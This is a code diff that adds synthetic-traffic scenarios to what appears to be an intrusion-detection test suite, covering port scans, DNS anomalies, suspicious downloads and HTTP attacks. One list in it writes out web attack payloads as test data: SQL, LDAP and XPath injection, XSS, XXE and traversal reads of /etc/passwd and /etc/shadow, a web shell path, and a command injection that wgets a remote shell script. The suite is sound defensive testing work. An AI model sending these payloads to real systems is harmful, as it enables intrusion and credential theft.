@@ -242,6 +242,183 @@ def repeated_syns():
     return _ts([g.tcp_frame(CLIENT, "203.0.113.66", 40360, 443, g.TCP_SYN)] * 8, step_ms=500)
 
 
+# --- heuristics (default settings) -------------------------------------------------------------------
+SCANNER, TARGET, LOCAL_HOST = "203.0.113.9", "198.18.0.7", "10.0.0.7"
+
+
+def _at(frames_with_s):
+    """(seconds after T0, frame) pairs, in the order given."""
+    return LINKTYPE_ETHERNET, [(T0 + int(sec * 1e9), f) for sec, f in frames_with_s]
+
+
+@scenario
+def scan_tcp_syn():
+    """12 ports in 22 s fire at the 11th (> 10 in 30 s); 12 ports 4 s apart never reach 11 in 30 s."""
+    fast = [(i * 2, g.tcp_frame(SCANNER, TARGET, 40000 + i, 1000 + i, g.TCP_SYN)) for i in range(12)]
+    slow = [(i * 4 + 0.5, g.tcp_frame("203.0.113.10", TARGET, 40100 + i, 2000 + i, g.TCP_SYN)) for i in range(12)]
+    return _at(sorted(fast + slow, key=lambda x: x[0]))
+
+
+@scenario
+def scan_tcp_stealth():
+    """NULL, FIN and XMAS probes count; retransmissions to one port do not add; bare ACKs never count."""
+    kinds = (0, g.TCP_FIN, g.TCP_FIN | g.TCP_PSH | g.TCP_URG)
+    probes = [(i, g.tcp_frame(SCANNER, TARGET, 40200, 3000 + i, kinds[i % 3])) for i in range(11)]
+    probes.append((11, g.tcp_frame(SCANNER, TARGET, 40200, 3000, 0)))
+    acks = [(i + 0.5, g.tcp_frame("203.0.113.11", TARGET, 40300, 4000 + i, g.TCP_ACK)) for i in range(20)]
+    return _at(sorted(probes + acks, key=lambda x: x[0]))
+
+
+@scenario
+def scan_udp():
+    """11 small datagrams to 11 ports fire; QUIC-sized datagrams and traceroute ports do not count."""
+    probes = [(i, g.udp_frame(SCANNER, TARGET, 40400, 5000 + i, b"\0" * 8)) for i in range(11)]
+    quic = [(i + 0.2, g.udp_frame("203.0.113.12", TARGET, 40401, 6000 + i, b"\xc0" + b"\0" * 1199)) for i in range(11)]
+    trace = [(i + 0.4, g.udp_frame("203.0.113.13", TARGET, 40402, 33434 + i, b"\0" * 32)) for i in range(11)]
+    return _at(sorted(probes + quic + trace, key=lambda x: x[0]))
+
+
+@scenario
+def scan_infection():
+    """A local host reaching 33 hosts on 445 fires once the 33rd is reached; an outside source
+    doing the same is a port sweep, not an infection."""
+    local = [(i * 0.1, g.tcp_frame(LOCAL_HOST, "10.9.%d.%d" % (i // 200, i % 200 + 1), 41000 + i, 445)) for i in range(33)]
+    outside = [(i * 0.1 + 0.05, g.tcp_frame("203.0.113.14", "10.8.0.%d" % (i + 1), 41100 + i, 445)) for i in range(33)]
+    return _at(local + outside)
+
+
+@scenario
+def scan_web():
+    """11 first path segments from one client to one server fire; one segment with many queries does not."""
+    scan = [(i * 0.5, _http(g.http_request("GET", "/probe%d/index.html" % i, "victim.example"), 42000 + i))
+            for i in range(11)]
+    normal = [(i * 0.5 + 0.25, _http(g.http_request("GET", "/search?q=%d" % i, "shop.example"), 42100 + i,
+                                     dst="198.18.0.81")) for i in range(11)]
+    return _at(sorted(scan + normal, key=lambda x: x[0]))
+
+
+def _nx(name, sport, src=RESOLVER, dst=CLIENT):
+    return g.udp_frame(src, dst, 53, sport, g.dns_response(name, rcode=3))
+
+
+@scenario
+def dns_nxdomain_name():
+    """21 NXDOMAIN answers for one name in an hour: one event naming it."""
+    return _at([(i * 10, _nx("gone.missing-host.org", 43000 + i)) for i in range(21)])
+
+
+@scenario
+def dns_nxdomain_parent():
+    """21 NXDOMAIN answers for different names of one domain: one event listing them; the hour
+    boundary restarts the count (20 more the next hour stay silent)."""
+    first = [(i, _nx("n%02d.nx-parent.org" % i, 43100 + i)) for i in range(21)]
+    later = [(3600 + i, _nx("m%02d.nx-parent.org" % i, 43200 + i)) for i in range(20)]
+    return _at(first + later)
+
+
+@scenario
+def dns_dga():
+    """NXDOMAIN for a high-entropy and a consonant-heavy name fire; an ordinary typo does not."""
+    return _at([(0, _nx("qzxwvjkplmbnrtyh.com", 43300)), (1, _nx("bbbbcccddddfffggg.net", 43301)),
+                (2, _nx("gooogle.com", 43302))])
+
+
+@scenario
+def dns_long_name():
+    """A first label over 24 characters without a hyphen fires; with a hyphen, or a blogspot name, it does not."""
+    return _at([(0, _dns("abcdefghijklmnopqrstuvwxyz0123.tunnel-test.org", 43400)),
+                (1, _dns("abcdefghijkl-mnopqrstuvwxyz0123.tunnel-test.org", 43401)),
+                (2, _dns("abcdefghijklmnopqrstuvwxyz0123.blogspot.com", 43402))])
+
+
+@scenario
+def dns_exhaustion():
+    """1,001 distinct subdomains of one domain within 60 s: the 1,001st fires; a reverse lookup
+    style (numeric) first label is never counted."""
+    frames = [(i * 0.05, _dns("x%04d.exhaust-test.org" % i, 44000 + i % 20000)) for i in range(1001)]
+    frames += [(51 + i * 0.001, _dns("%d.exhaust-num.org" % i, 45000 + i)) for i in range(1001)]
+    return _at(frames)
+
+
+_ATTACKS = (
+    "/items.php?id=1%20UNION%20ALL%20SELECT%20name,pass%20FROM%20users",
+    "/login?user=admin%27%20OR%20%271%27=%271",
+    "/q?x=/text()=%27a%27",
+    "/i.php?c=%3C?php%20system(1);",
+    "/ldap?u=*)(%7C(uid=*",
+    "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/x?d=%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E",
+    "/collect?imei=356938035643809",
+    "/.git/config",
+    "/cgi-bin/x?c=;wget%20http://198.51.100.7/x.sh",
+    "/view?f=../../../../etc/shadow",
+    "/uploads/c99shell.php",
+    "/w00tw00t.at.blackhats",
+    "/router/apply.cgi?dnsserver1=198.51.100.53",
+)
+
+
+@scenario
+def http_attacks():
+    """One request per attack family, a POST body attack, and relative references that are not traversal."""
+    frames = [(i, _http(g.http_request("GET", target, "site%d.example" % i), 46000 + i, "198.18.1.%d" % (i + 1)))
+              for i, target in enumerate(_ATTACKS)]
+    frames.append((20, _http(g.http_request("POST", "/search", "post.example",
+                                            body=b"q=1 UNION SELECT pwd FROM users"), 46100, "198.18.2.1")))
+    frames.append((21, _http(g.http_request("GET", "/a/b/../images/../js/app.js", "site.example"), 46101, "198.18.2.2")))
+    return _at(frames)
+
+
+@scenario
+def http_downloads():
+    """Short-named executables from outside fire; long names, local servers, /bin/ paths and
+    queries with parameters do not. IoT droppers from bare IPs, proxy probes and attack-tool user
+    agents fire; an antivirus updater that happens to name one does not."""
+    reqs = [
+        ("/setup.exe", "dl.example", "198.18.3.1", None),
+        ("/files/update.ps1", "dl.example", "198.18.3.2", None),
+        ("/installer-for-windows.exe", "dl.example", "198.18.3.3", None),
+        ("/setup.exe", "intranet.example", "10.1.1.1", None),
+        ("/bin/tool.exe", "dl.example", "198.18.3.4", None),
+        ("/get.exe?id=7", "dl.example", "198.18.3.5", None),
+        ("/bins/sora.arm7", "198.18.3.6", "198.18.3.6", None),
+        ("/index.html", "ua.example", "198.18.3.7", "sqlmap/1.7#stable (https://sqlmap.org)"),
+        ("/index.html", "ua.example", "198.18.3.8", "Sophos nmap scripting engine updater"),
+    ]
+    frames = [(i, _http(g.http_request("GET", target, host, agent), 47000 + i, dst))
+              for i, (target, host, dst, agent) in enumerate(reqs)]
+    frames.append((20, _http(g.http_request("GET", "http://proxy-judge.example/check?x=1", "198.18.3.9"), 47100,
+                             "198.18.3.9")))
+    return _at(frames)
+
+
+def _response(payload, sport=80, src="198.18.4.1", dport=47500):
+    return g.tcp_frame(src, CLIENT, sport, dport, g.TCP_PSH | g.TCP_ACK, payload)
+
+
+@scenario
+def http_responses():
+    """Sinkhole servers, a seized-domain page and a shell-script content type fire; an ordinary page does not."""
+    return _at([
+        (0, _response(b"HTTP/1.1 200 OK\r\nServer: sinkhole\r\nContent-Length: 0\r\n\r\n", src="198.18.4.1", dport=47500)),
+        (1, _response(b"HTTP/1.1 200 OK\r\nX-Sinkhole: malware\r\n\r\n", src="198.18.4.2", dport=47501)),
+        (2, _response(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><title>This domain has been "
+                      b"seized by the FBI</title></html>", src="198.18.4.3", dport=47502)),
+        (3, _response(b"HTTP/1.1 200 OK\r\nContent-Type: text/x-shellscript\r\n\r\n#!/bin/sh\n", src="198.18.4.4",
+                      dport=47503)),
+        (4, _response(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Welcome</title>", src="198.18.4.5",
+                      dport=47504)),
+    ])
+
+
+@scenario
+def http_forwarded_for():
+    """Behind a reverse proxy, the attack is attributed to the client X-Forwarded-For names."""
+    req = g.http_request("GET", "/view?f=../../../../etc/passwd", "app.example",
+                         headers=(("X-Forwarded-For", "198.51.100.23, 10.0.0.2"),))
+    return _at([(0, _http(req, 48000, "10.0.0.80", 8080, src="10.0.0.2"))])
+
+
 # --- link layers and IP options --------------------------------------------------------------------
 
 def _ip_only(frame: bytes) -> bytes:
